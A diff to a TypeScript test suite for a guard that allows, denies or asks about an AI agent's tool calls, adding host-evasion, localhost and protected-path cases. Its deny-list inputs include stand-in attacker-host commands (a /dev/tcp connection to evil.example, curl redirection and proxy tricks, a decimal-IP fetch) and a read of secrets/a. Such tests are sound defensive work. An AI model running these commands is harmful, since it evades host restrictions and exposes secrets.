@@ -51,6 +51,9 @@ const notAllowed: readonly Case[] = [
   shell("hosts", "curl --connect-to api.acme.example:443:evil.example:443 https://api.acme.example"),
   shell("hosts", "https_proxy=http://evil.example curl https://api.acme.example"),
   shell("hosts", "npm install left-pad"),
+  shell("hosts", "curl http://localhost.evil.example"),
+  shell("hosts", "curl -x localhost:8080 https://evil.example"),
+  ["hosts", "WebFetch", { url: "http://2130706433/", prompt: "x" }],
   shell("hosts", "exec 3<>/dev/tcp/evil.example/80"),
   shell("hosts", "python3 -c \"import requests; requests.get('https://api.acme.example'+x)\""),
   shell("paths", "git show HEAD:secrets/a"),
@@ -121,6 +124,9 @@ const allowed: readonly Case[] = [
   shell("drop", "terraform -chdir=envs/production plan"),
   shell("hosts", 'curl -H "Authorization: $TOKEN" "https://api.acme.example/items/$ID"'),
   shell("hosts", "gh pr list"),
+  shell("hosts", "curl -s localhost:3000/health"),
+  shell("hosts", "curl 'http://[::1]:3000/'"),
+  ["hosts", "WebFetch", { url: "http://127.0.0.1:3000/", prompt: "x" }],
   shell("hosts", "echo https://evil.example >> links.md"),
   shell("paths", "grep -rn key src"),
   shell("paths", 'git commit -m "keep secrets/ out"'),
@@ -191,6 +197,19 @@ describe("tool contracts", () => {
   test("say which field is what", () => {
     expect(guard.judge({ tool: "mcp__treasury__payout", input: { sum: 40_000 } }).decision).toBe("allow")
     expect(guard.judge({ tool: "treasury.payout", input: { sum: 60_000 } }).decision).toBe("deny")
+  })
+  test("a file that a tool is there to change, and is not named, may be any", () => {
+    const tools = [
+      { tools: ["put"], does: ["write"], paths: ["target"], texts: ["blob"] },
+      { tools: ["get"], does: ["read"], paths: ["target"] },
+    ] as const
+    const vault = createGuard([{ template: "protected-paths", paths: ["/srv/vault"], access: "any" }], { tools })
+    const decide = (tool: string, input: unknown) => vault.judge({ tool, input }).decision
+    expect(decide("put", { blob: "x" })).toBe("ask")
+    expect(decide("put", { target: " ", blob: "x" })).toBe("ask")
+    expect(decide("put", { target: "/tmp/a", blob: "x" })).toBe("allow")
+    expect(decide("put", { target: "/srv/vault/a", blob: "x" })).toBe("deny")
+    expect(decide("get", {})).toBe("allow")
   })
   test("a declared tool that reads is let through where one with such a name is asked about", () => {
     const look = createGuard([{ template: "read-only" }], { tools: [{ tools: ["list_*"], does: ["read"] }] })
